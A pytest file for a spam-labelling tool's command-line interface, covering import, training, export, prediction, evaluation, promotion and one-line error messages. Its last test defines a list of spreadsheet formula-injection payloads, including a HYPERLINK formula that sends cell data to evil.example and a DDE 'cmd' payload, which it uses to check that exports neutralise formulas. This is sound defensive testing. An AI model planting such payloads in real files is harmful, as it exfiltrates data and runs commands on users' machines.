"""scripts.cli: import -> train -> versions -> export -> predict -> evaluate -> promote, on a local project, with
csv, xlsx and parquet; and its errors (exit 2 and a one-line message, no traceback)."""
from __future__ import annotations

import json
import subprocess
import sys

import pandas as pd
import pytest
from sklearn.metrics import f1_score

from scripts import cli

from .conftest import ROOT, SMS_CSV

SUBCOMMANDS = ("import", "export", "predict", "train", "evaluate", "versions", "promote", "reconcile")


@pytest.fixture
def env(tmp_path, monkeypatch):
    monkeypatch.setenv("INSTANCE_PATH", str(tmp_path / "instance"))
    monkeypatch.setenv("MODEL_FAMILIES", "quick")
    monkeypatch.delenv("TAGTOG_PROJECTS", raising=False)
    df = pd.read_csv(SMS_CSV, keep_default_na=False).sample(n=1400, random_state=1).reset_index(drop=True)
    df.insert(0, "id", [f"sms-{i:04d}" for i in range(len(df))])
    return tmp_path, df


def run(capsys, *argv):
    code = cli.main(["--log-level", "ERROR", *argv])
    out, err = capsys.readouterr()
    return code, (json.loads(out) if code == 0 else None), err


def test_import_train_export_predict_evaluate_promote(env, capsys):
    tmp, df = env
    df.iloc[:800].to_excel(tmp / "labelled.xlsx", index=False)
    df.iloc[800:1000][["id", "text"]].to_parquet(tmp / "pool.parquet")
    df.iloc[1000:].to_csv(tmp / "held.csv", index=False)

    code, out, err = run(capsys, "import", str(tmp / "labelled.xlsx"), "--project", "local/sms", "--id-col", "id",
                         "--label-col", "label", "--no-progress")
    assert code == 0, err
    assert (out["added"], out["labelled"], out["rows"]) == (800, 800, 800)
    code, out, _ = run(capsys, "import", str(tmp / "pool.parquet"), "--project", "local/sms", "--id-col", "id")
    assert (out["added"], out["labelled"]) == (200, 0)
    code, out, _ = run(capsys, "import", str(tmp / "pool.parquet"), "--project", "local/sms", "--id-col", "id")
    assert (out["added"], out["updated"]) == (0, 0)  # the same ids: nothing new

    code, out, err = run(capsys, "train", "--project", "local/sms")
    assert code == 0, err
    assert out["version"] == 1 and out["status"] == "champion" and out["pre_labels_uploaded"] == 0
    code, out, _ = run(capsys, "versions", "--project", "local/sms")
    assert [v["version"] for v in out["versions"]] == [1] and out["versions"][0]["family"] == "quick"

    code, out, err = run(capsys, "export", "--project", "local/sms", "--out", str(tmp / "all.parquet"),
                         "--no-progress")
    assert code == 0, err
    exported = pd.read_parquet(tmp / "all.parquet")
    assert len(exported) == 1000 and out["labelled"] == 800
    assert {"id", "text", "label", "labelled_by", "predicted", "probability", "p_ham", "p_spam",
            "version"} <= set(exported.columns)
    assert (exported.p_ham + exported.p_spam).round(6).eq(1).all()
    assert (exported.label[:800] == df.label[:800]).all() and (exported.label[800:] == "").all()
    assert exported.labelled_by[0] == "import:labelled.xlsx"
    code, out, _ = run(capsys, "export", "--project", "local/sms", "--out", str(tmp / "labels.xlsx"),
                       "--labelled-only", "--no-predictions")
    assert len(pd.read_excel(tmp / "labels.xlsx")) == 800 and out["version"] is None

    code, out, err = run(capsys, "predict", str(tmp / "held.csv"), "--project", "local/sms",
                         "--out", str(tmp / "scored.csv"), "--no-progress")
    assert code == 0, err
    scored = pd.read_csv(tmp / "scored.csv", keep_default_na=False)
    assert len(scored) == 400 and list(scored.columns[:3]) == ["id", "label", "text"]
    assert f1_score(scored.label, scored.predicted, pos_label="spam") >= 0.85  # held-out rows it never saw
    code, out, _ = run(capsys, "evaluate", str(tmp / "held.csv"), "--project", "local/sms", "--no-progress")
    assert out["n"] == 400 and out["f1"] >= 0.85 and out["dataset"] == "held.csv"

    code, out, _ = run(capsys, "train", "--project", "local/sms")  # v2: gated against v1
    assert out["version"] == 2
    code, out, _ = run(capsys, "promote", "--project", "local/sms", "1")
    assert out["champion"] == 1 and out["pool_scored"] == 200


@pytest.mark.parametrize("argv, message", [
    (["versions", "--project", "local/nothing"], "no project 'local/nothing'"),
    (["versions", "--project", "a/b/c/d"], "use an id"),
    (["import", "missing.csv", "--project", "local/x"], "missing.csv"),
    (["import", "{tmp}/t.json", "--project", "local/x"], "must be .csv, .xlsx or .parquet"),
    (["import", "{tmp}/t.csv", "--project", "local/x", "--text-col", "body"], "no column 'body'"),
    (["import", "{tmp}/t.csv", "--project", "local/x", "--as", "labelled"], "needs --label-col"),
    (["export", "--project", "local/x", "--out", "{tmp}/o.txt"], "must be .csv, .xlsx or .parquet"),
    (["predict", "{tmp}/t.csv", "--project", "local/x", "--out", "{tmp}/o.csv"], "no champion yet"),
    (["promote", "--project", "local/x", "7"], "has no version 7"),
    (["reconcile", "--project", "local/x"], "no platform"),
])
def test_errors_are_one_line_and_exit_2(env, capsys, argv, message):
    tmp, df = env
    df.head(5).to_csv(tmp / "t.csv", index=False)
    (tmp / "t.json").write_text("{}")
    assert cli.main(["import", str(tmp / "t.csv"), "--project", "local/x"]) == 0
    capsys.readouterr()
    code, _, err = run(capsys, *[a.format(tmp=tmp) for a in argv])
    assert code == 2 and message in err and "Traceback" not in err and err.startswith("error: ")


def test_a_bad_label_leaves_nothing_imported(env, capsys):
    tmp, df = env
    from config import Settings
    from storage import Project, Store

    store = Store(Settings.load().db_url)
    store.create_all()
    pid = store.ensure_project("local", "local", "flags")
    with store.session() as s:
        s.get(Project, pid).label_type = "boolean"
    pd.DataFrame({"text": ["a fine text", "another"], "flag": ["true", "perhaps"]}).to_csv(tmp / "f.csv", index=False)
    code, _, err = run(capsys, "import", str(tmp / "f.csv"), "--project", "local/flags", "--label-col", "flag")
    assert code == 2 and "row 2: 'perhaps' is not a boolean label" in err
    code, out, _ = run(capsys, "export", "--project", "local/flags", "--out", str(tmp / "o.csv"))
    assert out["rows"] == 0  # the first row was rolled back with the second


def test_every_subcommand_has_help():
    for sub in SUBCOMMANDS:
        r = subprocess.run([sys.executable, "-m", "scripts.cli", sub, "--help"], cwd=ROOT, capture_output=True,
                           text=True, timeout=60)
        assert r.returncode == 0 and "--project" in r.stdout, (sub, r.stderr)


HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+44 7700 900123 win",
           "-5 pounds off", "@SUM(A1:A2)", "\tleading tab", "'=already quoted", "'Tis plain", "a normal text"]


def test_export_cannot_run_code_and_imports_back_to_the_same_text(env, capsys):
    """Formula injection: CSV cells starting with = + - @ tab CR get a leading apostrophe, XLSX cells are text,
    never formulas; importing the export gives the original texts and labels back."""
    import io
    import zipfile

    tmp, _ = env
    src = pd.DataFrame({"id": [f"h{i}" for i in range(len(HOSTILE))], "text": HOSTILE,
                        "label": ["=2*3", "-", "ham", "spam", "ham", "spam", "ham", "spam", "ham", "spam"]})
    src.to_parquet(tmp / "hostile.parquet")
    code, out, err = run(capsys, "import", str(tmp / "hostile.parquet"), "--project", "local/h", "--id-col", "id",
                         "--label-col", "label", "--no-progress")
    assert code == 0 and out["labelled"] == len(HOSTILE), err
    run(capsys, "export", "--project", "local/h", "--out", str(tmp / "stored.parquet"), "--no-predictions")
    stored = pd.read_parquet(tmp / "stored.parquet")  # import strips the texts' outer whitespace
    assert list(stored.text) == [t.strip() for t in HOSTILE]
    for suffix in ("csv", "xlsx"):
        path = tmp / f"out.{suffix}"
        code, out, err = run(capsys, "export", "--project", "local/h", "--out", str(path), "--no-predictions")
        assert code == 0, err
        if suffix == "csv":
            raw = path.read_text()
            assert "h0,'=1+1,'=2*3," in raw and "''=already quoted" in raw and "'+44 7700" in raw
            assert ",=" not in raw and ",+" not in raw and ",-" not in raw and ",@" not in raw
        else:
            sheet = zipfile.ZipFile(io.BytesIO(path.read_bytes())).read("xl/worksheets/sheet1.xml").decode()
            assert "<f>" not in sheet and "HYPERLINK" in sheet  # the text is there, as text
        project = f"local/back{suffix}"
        code, out, err = run(capsys, "import", str(path), "--project", project, "--id-col", "id",
                             "--label-col", "label", "--no-progress")
        assert code == 0 and out["labelled"] == len(HOSTILE), err
        code, out, err = run(capsys, "export", "--project", project, "--out", str(tmp / f"back-{suffix}.parquet"),
                             "--no-predictions")
        back = pd.read_parquet(tmp / f"back-{suffix}.parquet")
        assert list(back.text) == list(stored.text) and list(back.label) == list(src.label)
